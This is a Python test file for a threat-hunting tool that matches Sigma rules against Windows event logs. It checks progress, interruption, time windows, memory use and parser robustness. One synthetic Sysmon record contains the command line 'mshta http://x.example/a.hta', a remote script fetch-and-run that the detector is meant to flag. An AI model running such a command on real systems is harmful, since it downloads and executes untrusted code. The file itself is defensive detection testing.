"""A hunt from options to result: interrupted, strict, within a time window, and what memory it takes."""

from __future__ import annotations

import json
import tracemalloc
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from douse.errors import EvidenceError, RuleError
from douse.hunt import run
from douse.hunt.options import HuntOptions
from douse.hunt.run import hunt

Scenario = Callable[..., Path]

BYTES_A_FACT = 1_200
"""incident/facts.py states 960 for a start with a long command line; tracemalloc counts the growth of tables too."""


class Watcher:
    """A progress that counts what it is told, and presses Ctrl-C when so many alerts are in."""

    def __init__(self, interrupt_at: int = 0) -> None:
        self.interrupt_at = interrupt_at
        self.total = self.bytes = self.records = self.alerts = 0
        self.finished = 0

    def start(self, total_bytes: int) -> None:
        self.total = total_bytes

    def advance(self, read_bytes: int, records: int, alerts: int, /) -> None:
        self.bytes += read_bytes
        self.records += records
        self.alerts += alerts
        if self.interrupt_at and self.alerts >= self.interrupt_at:
            raise KeyboardInterrupt

    def finish(self) -> None:
        self.finished += 1


def options(*paths: Path, **more: object) -> HuntOptions:
    return HuntOptions(paths=tuple(map(str, paths)), **more)  # type: ignore[arg-type]


def test_the_progress_adds_up(scenario: Scenario) -> None:
    folder = scenario("lumma-clickfix")
    watcher = Watcher()
    result = hunt(options(folder), watcher)
    size = sum(path.stat().st_size for path in folder.iterdir())
    assert watcher.total == watcher.bytes == size
    assert (watcher.records, watcher.alerts) == (result.summary.records_read, len(result.alerts))
    assert watcher.finished == 1
    assert not result.problems


def test_an_interruption_keeps_and_explains_what_was_read(scenario: Scenario) -> None:
    first, second = scenario("lumma-clickfix", file="one.evtx"), scenario("benign-day", file="day.evtx")
    watcher = Watcher(interrupt_at=1)
    result = hunt(options(first, second), watcher)
    whole = hunt(options(first))
    assert result.summary.interrupted
    assert result.summary.partial
    assert [incident.incident_id for incident in result.incidents] == [i.incident_id for i in whole.incidents]
    assert result.summary.records_read == whole.summary.records_read
    [problem] = result.problems
    assert "2 file(s) were not read to their end" in problem.what
    assert watcher.finished == 1


@pytest.mark.parametrize("bad", ["missing.evtx", "empty.evtx"])
def test_strict_raises_with_place_and_next_step(bad: str, scenario: Scenario, tmp_path: Path) -> None:
    (tmp_path / "empty.evtx").write_bytes(b"")
    watcher = Watcher()
    with pytest.raises(EvidenceError, match=bad):
        hunt(options(scenario("lumma-clickfix"), tmp_path / bad, strict=True), watcher)
    assert watcher.finished == (0 if bad == "missing.evtx" else 1)  # the first is seen before anything is read


def test_without_a_rule_nothing_runs(scenario: Scenario) -> None:
    with pytest.raises(RuleError, match="no Sigma rule was found"):
        hunt(options(scenario("lumma-clickfix"), builtin=False))


def test_a_window_judges_and_covers_only_its_events(scenario: Scenario) -> None:
    middle = datetime(2026, 11, 3, 8, 15, tzinfo=UTC)
    log = scenario("lumma-clickfix", file="one.evtx")
    before, after = hunt(options(log, until=middle)), hunt(options(log, since=middle))
    whole = hunt(options(log))
    assert before.alerts + after.alerts == whole.alerts
    assert all(alert.time < middle for alert in before.alerts)
    counted = [sum(c.records for host in result.coverage for c in host.counts) for result in (before, after, whole)]
    assert counted[0] + counted[1] == counted[2] == whole.summary.records_read
    assert before.summary.records_read == whole.summary.records_read
    assert before.summary.last_event < middle <= after.summary.first_event
    assert not whole.notes


def test_a_record_that_is_read_twice_is_no_new_incident(scenario: Scenario) -> None:
    evtx, jsonl = scenario("lumma-clickfix", file="one.evtx"), scenario("lumma-clickfix", "jsonl", file="one.jsonl")
    assert [i.incident_id for i in hunt(options(evtx, jsonl)).incidents] == [
        i.incident_id for i in hunt(options(evtx)).incidents]


def peak(log: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[int, int]:
    """The most memory a hunt took, and how many process starts it kept."""
    kept: list[int] = []
    original = run.gather

    def spy(found: object, *rest: object) -> object:
        facts = found.facts  # type: ignore[attr-defined]
        hosts = [facts.host(host.host) for host in found.tally.coverage()]  # type: ignore[attr-defined]
        kept.append(sum(len(h.starts) + len(h.ends) + len(h.connections) + len(h.drops) for h in hosts))
        return original(found, *rest)  # type: ignore[arg-type]

    with monkeypatch.context() as patched:
        patched.setattr(run, "gather", spy)
        tracemalloc.start()
        try:
            assert hunt(options(log)).summary.records_read > 0
            return tracemalloc.get_traced_memory()[1], kept[0]
        finally:
            tracemalloc.stop()


def test_memory_grows_only_with_what_is_kept(scenario: Scenario, monkeypatch: pytest.MonkeyPatch) -> None:
    """Four times the noise: the growth is the facts that correlation keeps, each at what facts.py says it costs."""
    small, few = peak(scenario("lumma-clickfix", noise=1_000, file="small.evtx"), monkeypatch)
    large, many = peak(scenario("lumma-clickfix", noise=4_000, file="large.evtx"), monkeypatch)
    assert many > 2 * few
    assert large - small < (many - few) * BYTES_A_FACT + 500_000


def test_records_made_to_break_what_reads_them_stop_nothing(tmp_path: Path) -> None:
    """Lists in lists, which recursion would end and whose text would double, and numbers that cannot be written out."""
    system = {"Provider": {"#attributes": {"Name": "P"}}, "EventID": 1, "EventRecordID": 1, "Computer": "PC",
              "Channel": "Microsoft-Windows-Sysmon/Operational",
              "TimeCreated": {"#attributes": {"SystemTime": "2026-03-02T12:00:00Z"}}}
    data = {"Image": "C:\\Windows\\System32\\mshta.exe", "OriginalFileName": "MSHTA.EXE", "ProcessId": "7",
            "CommandLine": "mshta http://x.example/a.hta", "ParentImage": "C:\\Windows\\explorer.exe"}
    plain = json.dumps({"Event": {"System": system, "EventData": data | {"Odd": "@"}}})
    odd = ["[" * 900 + '"x"' + "]" * 900, '{"#text":[' * 400 + "]}" * 400, "9" * 5_000, f'"0x{"f" * 5_000}"', "1e999"]
    lines = [plain.replace('"@"', value) for value in odd]
    lines += [plain.replace('"7"', value).replace('"ProcessId"', f'"{name}"')
              for name in ("ProcessId", "LogonId", "ParentProcessId", "ProcessGuid") for value in odd[2:]]
    log = tmp_path / "odd.jsonl"
    log.write_text("\n".join(lines) + "\n")
    result = hunt(options(log))
    assert not result.problems
    assert result.summary.records_read == len(lines)
    assert sum("mshta" in alert.title.lower() for alert in result.alerts) >= len(lines)
